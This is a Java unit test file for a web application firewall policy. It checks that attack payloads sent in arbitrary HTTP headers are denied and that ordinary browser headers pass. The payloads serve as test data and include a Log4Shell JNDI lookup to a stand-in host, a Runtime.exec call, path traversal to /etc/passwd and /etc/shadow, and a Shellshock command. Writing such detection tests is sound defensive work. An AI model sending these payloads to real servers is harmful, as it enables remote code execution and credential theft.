package io.paduraksa.policy.attack;

import static io.paduraksa.policy.attack.AttacksPolicyTest.matchedRules;
import static org.assertj.core.api.Assertions.assertThat;

import io.paduraksa.policy.PolicyDecision;
import io.paduraksa.testing.TestPolicyInput;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * {@code inspect.all_headers}: every header field line besides the User-Agent, the Cookie and the
 * named headers runs the rules CRS 3.3 applies to all of {@code REQUEST_HEADERS} (944 Java, 930100
 * and 930110 traversal, 933170 PHP objects, 932170 Shellshock), as CRS's 944 tests send their
 * payloads in a header named {@code test}. Payloads, benign browser headers, and what is not
 * inspected twice.
 */
class AttacksAllHeadersTest {
    private static final PolicyDecision DENIED = PolicyDecision.DROP;
    private static final List<String> DEFAULT_HEADERS = List.of("User-Agent", "Referer");

    static AttacksPolicy allHeaders(int paranoia, List<AttackExclusion> exclusions) {
        return new AttacksPolicy("waf", paranoia, 5, true, true, true, DEFAULT_HEADERS, true, false, exclusions, DENIED, 0, false, 0, 0);
    }

    /** A browser's request with Chrome's headers and one more field line {@code name: value}. */
    static TestPolicyInput browser(String name, String value) {
        TestPolicyInput r = new TestPolicyInput().path("/account");
        r.target("/account?tab=orders");
        r.header("Host", "shop.example.test");
        r.header("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36");
        r.header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8");
        r.header("Accept-Language", "id-ID,id;q=0.9,en-US;q=0.8,en;q=0.7");
        r.header("Accept-Encoding", "gzip, deflate, br, zstd");
        r.header("Sec-Ch-Ua", "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Google Chrome\";v=\"126\"");
        r.header("Sec-Ch-Ua-Platform", "\"Windows\"");
        r.header("Sec-Fetch-Site", "same-origin");
        r.header("Referer", "https://shop.example.test/");
        r.header("Cookie", "_ga=GA1.2.1234567890.1700000000; theme=dark");
        if (name != null) {
            r.header(name, value);
        }
        return r;
    }

    @ParameterizedTest(name = "{0} at PL{1}: {2}")
    @CsvSource(delimiter = '|', quoteCharacter = 0, textBlock = """
            944130 | 1 | com.opensymphony.xwork2
            944130 | 1 | com.sun.org.apache
            944130 | 1 | java.lang.Object.getClass()
            944120 | 1 | ProcessBuilder.evil.clonetransformer
            944100 | 1 | java.lang.Runtime.getRuntime().exec("id")
            944150 | 1 | ${jndi:ldap://evil.example/a}
            944210 | 1 | rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ
            944240 | 2 | org.apache.commons.collections.functors.InvokerTransformer
            930110 | 1 | ../../../../etc/passwd
            930110 | 1 | %2e%2e/%2e%2e/etc/shadow (decoded first)
            930100 | 1 | 0x5c0x2e.%00/
            933170 | 1 | O:8:"stdClass":1:{s:1:"a";i:1;}
            932170 | 1 | () { :; }; /bin/bash -c id
            913110 | 1 | WVS/5.0 (Acunetix Web Vulnerability Scanner - EVALUATION)
            944210 | 1 | KztAAU
            """)
    void attacksInAnyHeaderAreDenied(String rule, int paranoia, String payload) {
        AttacksPolicy policy = allHeaders(paranoia, List.of());
        TestPolicyInput request = browser("test", payload);

        assertThat(policy.evaluate(request)).isSameAs(DENIED);
        assertThat(matchedRules(policy, request)).contains(rule);
        assertThat(request.matches().toString()).contains(rule + " header:test \"");
    }

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(delimiter = '|', quoteCharacter = 0, textBlock = """
            If-None-Match       | W/"5e15153d-120f"
            If-Modified-Since   | Wed, 21 Oct 2026 07:28:00 GMT
            Authorization       | Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl
            X-Forwarded-For     | 203.0.113.7, 198.51.100.2
            X-Requested-With    | XMLHttpRequest
            Content-Type        | application/json; charset=utf-8
            X-Client            | com.example.shop.android/5.2.1 (Java 17; okhttp 4.12)
            X-Path              | /docs/v2..v3/changes
            X-Comment           | runtime settings for the process builder page
            X-Note              | O:8 stand-up at 09:00 {room 2}
            Cache-Control       | max-age=0
            Priority            | u=0, i
            """)
    void benignHeadersPass(String name, String value) {
        TestPolicyInput request = browser(name, value);

        for (int paranoia = 1; paranoia <= 2; paranoia++) {
            AttacksPolicy policy = allHeaders(paranoia, List.of());
            assertThat(policy.evaluate(request)).as("PL%d: %s", paranoia, matchedRules(policy, request)).isSameAs(PolicyDecision.CONTINUE);
        }
    }

    /** CRS 913110 reads header names too: a scanner's own header is denied whatever its value. */
    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(delimiter = '|', quoteCharacter = 0, textBlock = """
            Acunetix-Product | WVS/5.0
            X-Scanner        | whatever
            X-RatProxy-Loop  | 1
            """)
    void scannerHeaderNamesAreDenied(String name, String value) {
        AttacksPolicy policy = allHeaders(1, List.of());
        TestPolicyInput request = browser(name, value);

        assertThat(policy.evaluate(request)).isSameAs(DENIED);
        assertThat(request.matches().toString()).startsWith("913110 header:" + name.toLowerCase(java.util.Locale.ROOT) + " \"");
    }

    @Test
    void otherHeadersAreNotInspectedWithoutAllHeaders() {
        AttacksPolicy policy = new AttacksPolicy("waf", 1, 5, true, true, true, DEFAULT_HEADERS, false, List.of(), DENIED);

        assertThat(policy.evaluate(browser("test", "com.opensymphony.xwork2"))).isSameAs(PolicyDecision.CONTINUE);
    }

    @Test
    void everyLineOfARepeatedHeaderIsInspected() {
        TestPolicyInput request = browser("X-Trace", "abc");
        request.header("X-Trace", "${jndi:ldap://evil.example/a}");

        assertThat(allHeaders(1, List.of()).evaluate(request)).isSameAs(DENIED);
    }

    @Test
    void theUserAgentCookieAndNamedHeadersAreNotInspectedTwice() {
        AttacksPolicy policy = allHeaders(1, List.of());
        List<String> lines = policy.explain(browser("test", "x"));

        assertThat(lines).anyMatch(l -> l.contains(" header:test: "));
        assertThat(lines).anyMatch(l -> l.contains(" header:accept-language: "));
        // 920330 (an empty User-Agent) is a protocol check of the head, not a second pattern pass over the value
        assertThat(lines).noneMatch(l -> !l.startsWith("920330 ")
                && (l.contains("header:user-agent") || l.contains("header:cookie") || l.contains("header:referer")));
    }

    @Test
    void anExclusionNamesAHeaderByItsLowerCaseName() {
        AttacksPolicy policy = allHeaders(1, List.of(new AttackExclusion(List.of(944), List.of("x-java-class"), List.of())));

        assertThat(policy.evaluate(browser("X-Java-Class", "com.opensymphony.xwork2"))).isSameAs(PolicyDecision.CONTINUE);
        assertThat(policy.evaluate(browser("X-Other", "com.opensymphony.xwork2"))).isSameAs(DENIED);
    }
}
